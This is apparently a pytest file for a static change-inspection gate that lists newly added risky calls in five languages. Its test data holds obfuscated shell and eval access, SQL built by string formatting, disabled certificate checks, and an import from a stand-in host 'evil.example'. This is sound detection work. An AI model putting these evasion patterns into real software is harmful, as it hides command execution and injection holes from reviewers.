"""What five languages newly reach for, also behind aliases and built names, and what they only seem to."""

from __future__ import annotations

import pytest

from gates.static.changes import a_file, added, inspect

REACHES = [
    ("a.py", 'import subprocess as sp\nsp.run(["ls"])'),
    ("a.py", 'getattr(os, "sys" + "tem")("ls")\nimport os'),
    ("a.py", '__import__("os").system("x")'),
    ("a.py", 'import importlib\nimportlib.import_module("subpro"+"cess").run("x")'),
    ("a.py", 'from os import system as s\ns("x")'),
    ("a.py", 'from os import *\nsystem("x")'),
    ("a.py", 'import os\nf = os.system\nf("x")'),
    ("a.py", 'eval("1")'),
    ("a.py", '__builtins__["eval"]("1")'),
    ("a.py", 'import builtins\nbuiltins.__dict__["exec"]("x")'),
    ("a.py", 'import os\nvars(os)["system"]("x")'),
    ("a.py", "import requests\nrequests.get(u, verify=False)"),
    ("a.py", "import pickle\npickle.loads(b)"),
    ("a.py", "import yaml\nyaml.load(x)"),
    ("a.py", 'cur.execute(f"SELECT * FROM t WHERE id={x}")'),
    ("a.py", 'cur.execute("SELECT * FROM t WHERE id=%s" % x)'),
    ("a.py", 'cur.execute("SELECT * FROM t WHERE id=" + x)'),
    ("a.py", 'cur.execute("SELECT * FROM t WHERE id={}".format(x))'),
    ("a.py", 'from pathlib import Path\nPath("x").unlink()'),
    ("a.py", "import shutil\nshutil.rmtree(p)"),
    ("a.py", "import hashlib\nhashlib.md5(x)"),
    ("a.py", 'import hashlib\nhashlib.new("md5")'),
    ("a.py", "import ctypes"),
    ("a.py", "import socket\ns=socket.socket()"),
    ("a.py", '𝘦𝘷𝘢𝘭("1")'),
    ("a.py", 'x=globals()["__builtins__"]'),
    ("a.py", "map(os.system, xs)\nimport os"),
    ("a.py", 'import sys\nsys.modules["os"].system("x")'),
    ("a.py", "import numpy as np\nnp.load(f, allow_pickle=True)"),
    ("a.py", "().__class__.__bases__[0].__subclasses__()"),
    ("a.py", 'def f():\n  import os as o\n  o.popen("x")'),
    ("a.py", 'e = eval\ne("1")'),
    ("a.py", 'import asyncio\nasyncio.create_subprocess_shell("x")'),
    ("a.py", "class A:\n  run = subprocess.run\nimport subprocess"),
    ("a.ts", 'import {exec as e} from "child_process"; e("ls")'),
    ("a.ts", 'const {exec: e} = require("node:child_process"); e("x")'),
    ("a.ts", 'require("child_"+"process").exec("x")'),
    ("a.ts", 'const m = "x"; require(m)'),
    ("a.ts", "await import(name)"),
    ("a.ts", 'globalThis["ev"+"al"]("x")'),
    ("a.ts", 'new Function("x")()'),
    ("a.ts", 'eval("x")'),
    ("a.ts", 'fetch("http://x")'),
    ("a.ts", 'import fs from "fs"; fs.rmSync(p)'),
    ("a.ts", 'import * as cp from "child_process"; cp.spawn("x")'),
    ("a.ts", "el.innerHTML = x"),
    ("a.ts", "https.request({rejectUnauthorized: false})"),
    ("a.ts", 'process.env.NODE_TLS_REJECT_UNAUTHORIZED = "0"'),
    ("a.ts", "db.query(`SELECT * FROM t WHERE id=${x}`)"),
    ("a.ts", 'crypto.createHash("md5")'),
    ("a.py", "from concurrent.futures import ProcessPoolExecutor as P\nP(2)"),
    ("a.py", "from asyncio import subprocess"),
    ("a.py", 'import webbrowser\nwebbrowser.open("x")'),
    ("a.py", 'import operator\noperator.attrgetter("system")(x)("ls")'),
    ("a.tsx", "const a = <div dangerouslySetInnerHTML={{__html: x}} />;"),
    ("a.jsx", "const a = <div dangerouslySetInnerHTML={x} />;"),
    ("a.ts", 'setTimeout("alert(1)", 5)'),
    ("a.ts", 'process.getBuiltinModule("child_process").exec("ls")'),
    ("a.ts", "await Bun.$`ls`"),
    ("a.ts", 'import {$} from "bun"; await $`ls`'),
    ("a.ts", 'await import("https://evil.example/x.js")'),
    ("a.ts", 'new Worker("x.js")'),
    ("a.go", 'package a\nimport "github.com/valyala/fasthttp"'),
    ("a.ts", 'import("child_process").then(c=>c.exec("x"))'),
    ("a.ts", 'const r = require; r("child_process")'),
    ("a.ts", 'process.binding("spawn_sync")'),
    ("a.ts", '[].constructor.constructor("x")()'),
    ("a.ts", "fs.promises.unlink(x)"),
    ("a.ts", 'import axios from "axios"; axios.get(u)'),
    ("a.ts", '(0, eval)("x")'),
    ("a.ts", 'window["eval"]("x")'),
    ("a.ts", 'const cp = await import("child_process"); cp.exec("x")'),
    ("a.go", 'package a\nimport "os/exec"\nfunc f(){ exec.Command("ls") }'),
    ("a.go", 'package a\nimport e "os/exec"\nfunc f(){ e.Command("ls") }'),
    ("a.go", 'package a\nimport . "os/exec"\nfunc f(){ Command("ls") }'),
    ("a.go", 'package a\nimport "net/http"\nfunc f(){ http.Get(u) }'),
    ("a.go", 'package a\nimport "unsafe"\nvar p unsafe.Pointer'),
    ("a.go", 'package a\nimport "os"\nfunc f(){ os.RemoveAll("x") }'),
    ("a.go", "package a\nvar c = tls.Config{InsecureSkipVerify: true}"),
    ("a.go", 'package a\nfunc f(){ db.Query(fmt.Sprintf("SELECT * FROM t WHERE id=%s", x)) }'),
    ("a.go", 'package a\nfunc f(){ db.Query("SELECT * FROM t WHERE id=" + x) }'),
    ("a.go", 'package a\nimport "crypto/md5"\nfunc f(){md5.Sum(x)}'),
    ("a.go", 'package a\nimport _ "net/http/pprof"'),
    ("a.go", 'package a\nimport "syscall"\nfunc f(){syscall.Exec(a,b,c)}'),
    ("a.go", 'package a\nimport "reflect"\nfunc f(){reflect.ValueOf(x)}'),
    ("a.go", 'package a\nimport (\n "encoding/gob"\n)\nfunc f(){gob.NewDecoder(r)}'),
    ("a.go", 'package a\nimport "C"\n'),
    ("a.rs", 'use std::process::Command;\nfn f(){ Command::new("ls"); }'),
    ("a.rs", 'use std::process::{self, Command as C};\nfn f(){ C::new("ls"); }'),
    ("a.rs", 'fn f(){ std::process::Command::new("ls"); }'),
    ("a.rs", "fn f(){ unsafe { x() } }"),
    ("a.rs", "unsafe fn f(){}"),
    ("a.rs", "use std::net::TcpStream;\nfn f(){ TcpStream::connect(a); }"),
    ("a.rs", "fn f(){ std::fs::remove_dir_all(p); }"),
    ("a.rs", "use std::fs;\nfn f(){ fs::remove_file(p); }"),
    ("a.rs", "fn f(){ std::mem::transmute(x) }"),
    ("a.rs", "fn f(){ reqwest::blocking::get(u) }"),
    ("a.rs", 'fn f(){ let q = format!("SELECT * FROM t WHERE id={}", x); }'),
    ("a.rs", "fn f(){ c.danger_accept_invalid_certs(true) }"),
    ("a.rs", 'extern "C" { fn system(); }'),
    ("a.rs", 'use std::process as p;\nfn f(){ p::Command::new("x"); }'),
    ("a.rs", "unsafe impl Send for X {}"),
    ("a.rs", 'use std::process::*;\nfn f(){ Command::new("x"); }'),
    ("a.rs", "macro_rules! m { () => { unsafe { x() } } }"),
    ("A.java", 'class A { void f(){ Runtime.getRuntime().exec("ls"); } }'),
    ("A.java", 'class A { void f(){ new ProcessBuilder("ls").start(); } }'),
    ("A.java", "import java.io.ObjectInputStream;\nclass A { void f(){ new ObjectInputStream(i).readObject(); } }"),
    ("A.java", 'class A { void f(){ Class.forName("x"); } }'),
    ("A.java", 'import java.net.*;\nclass A { void f(){ new URL("x").openStream(); } }'),
    ("A.java", "import java.nio.file.Files;\nclass A { void f(){ Files.delete(p); } }"),
    ("A.java", 'class A { void f(){ MessageDigest.getInstance("MD5"); } }'),
    ("A.java", 'class A { void f(){ st.executeQuery("SELECT * FROM t WHERE id=" + x); } }'),
    ("A.java", "class A { void f(){ m.setAccessible(true); } }"),
    ("A.java", "import java.net.http.HttpClient;\nclass A { void f(){ HttpClient.newHttpClient(); } }"),
    ("A.java", "class A { void f(){ java.lang.Runtime r = java.lang.Runtime.getRuntime(); } }"),
    ("A.java", "import javax.script.*;\nclass A { void f(){ new ScriptEngineManager(); } }"),
    ("A.java", 'class A { void f(){ st.execute(String.format("DELETE FROM t WHERE id=%s", x)); } }'),
    ("A.java", 'class A { void f(){ Cipher.getInstance("AES/ECB/PKCS5Padding"); } }'),
    ("A.java", 'class A { native void f(); static { System.loadLibrary("x"); } }'),
    ("A.java", 'import static java.lang.Runtime.getRuntime;\nclass A { void f(){ getRuntime().exec("x"); } }'),
]

REACHES_NOTHING = [
    ("a.ts", "setTimeout(() => done(), 5)"),
    ("a.ts", 'import { Worker } from "./worker"; new Worker(1)'),
    ("a.tsx", "const a = <div className={x} />;"),
    ("a.py", 'import os\nprint(os.path.join("a"))'),
    ("a.py", "def evaluate(x): return x.eval"),
    ("a.py", 'data = {"eval": 1}'),
    ("a.py", 'x = cur.execute("SELECT * FROM t WHERE id=?", (x,))'),
    ("a.py", "import json\njson.loads(x)"),
    ("a.py", "self.remove(x)"),
    ("a.py", 'd.update(a)\n# eval("x")'),
    ("a.py", 's = "os.system(1)"'),
    ("a.py", 'import re\nre.compile("x")'),
    ("a.py", "items.remove(x)"),
    ("a.py", 'msg = f"update {x} and set it"'),
    ("a.py", 'logger.info("select a file from %s" % d)'),
    ("a.py", 'raise ValueError(f"Select a value from {x}")'),
    ("a.ts", "const x = a.map(b => b+1)"),
    ("a.ts", "type T = {fetch: string}"),
    ("a.ts", 'import {a} from "./net"'),
    ("a.ts", "const s = `select an item from ${list}`"),
    ("a.ts", "arr.delete(x)"),
    ("a.ts", "function request(a:number){}"),
    ("a.ts", "export const md5sum = 1"),
    ("a.go", 'package a\nimport "fmt"\nfunc f(){fmt.Println("x")}'),
    ("a.go", 'package a\nimport "strings"\nfunc f(){ strings.Replace() }'),
    ("a.rs", "fn f(){ v.remove(0); let c = Command{}; }"),
    ("a.rs", "use std::collections::HashMap;\nfn f(){ HashMap::new(); }"),
    ("A.java", 'class A { void f(){ list.remove(1); String s = "select"; } }'),
    ("A.java", "import java.util.List;\nclass A { Optional<A> find(){ return x.get(); } }"),
]


def test_every_way_out_is_listed_and_ordinary_code_is_not() -> None:
    assert [case for case in REACHES if not inspect(added(*case))["surface"].findings] == []
    assert [case for case in REACHES_NOTHING if inspect(added(*case))["surface"].findings] == []


def test_it_is_an_attestation_and_stops_nobody() -> None:
    result = inspect(added("a.py", "x = 1\nimport subprocess as sp\nsp.run(['ls'])\n"))["surface"]
    (finding,) = result.findings
    assert (finding.title, finding.asks, finding.line) == ("subprocess: `subprocess.run`", "note", 3)
    assert result.outcome == "passed"
    assert result.reason == "1 new (1 subprocess): subprocess in `a.py:3`"


def test_none_is_said_when_there_is_none() -> None:
    assert inspect(added("a.py", "x = 1\n"))["surface"].reason.startswith("none: ")


@pytest.mark.parametrize(
    ("before", "after", "new"),
    [
        ("import os\nos.system('a')\n", "import os\n\ndef f():\n    os.system( 'a' )\n", 0),
        ("import os\nos.system('a')\n", "import os\nos.system('b')\n", 1),
        ("import os\nos.system('a')\n", "import os\nos.system('a')\nos.system('a')\n", 1),
        ("import os\nos.system('a')\n", "import os\n", 0),
    ],
)
def test_only_what_is_new_is_listed(before: str, after: str, new: int) -> None:
    assert len(inspect(a_file("a.py", before, after))["surface"].findings) == new


def test_a_call_that_moves_to_another_file_is_not_new() -> None:
    text = "import os\nos.system('a')\n"
    assert not inspect(a_file("a.py", text, None), added("b.py", text + "x = 1\n"))["surface"].findings


def test_code_in_other_languages_and_code_nested_without_end_is_named_as_not_read() -> None:
    result = inspect(added("a.rb", "system('ls')\n"), added("b.py", "x = " + "(" * 2000 + ")" * 2000))["surface"]
    assert "not read: `a.rb`, `b.py`" in result.reason
    assert {finding.path for finding in result.findings} == {"a.rb", "b.py"}


def test_documents_alone_are_no_code() -> None:
    assert inspect(added("README.md", "os.system('a')\n"))["surface"].outcome == "not_applicable"
